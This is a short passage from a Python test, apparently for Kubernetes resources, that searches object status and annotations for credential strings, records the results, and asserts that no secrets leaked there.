            blob = json.dumps({"status": obj.get("status"), "annotations": obj["metadata"].get("annotations")})
            found += [f"{kind} {obj['metadata']['name']} status" for n in needles if n in blob]
    record("credentials", {"keys_searched": 2, "found": len(found), "where": found, **scanned})
    assert found == []
